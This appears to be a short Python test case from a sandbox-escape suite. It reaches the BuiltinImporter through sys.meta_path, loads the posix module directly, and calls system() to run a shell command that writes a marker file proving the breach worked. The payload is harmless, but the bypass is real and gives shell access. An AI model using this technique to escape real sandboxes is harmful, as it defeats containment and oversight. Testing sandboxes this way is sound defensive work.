# The first finder of sys.meta_path loads posix.
# breach: marker
# state: kept
import sys
finder = next(f for f in sys.meta_path if getattr(f, "__name__", "") == "BuiltinImporter")
finder.load_module("posix").system(f"echo > {MARKER_FILE}")
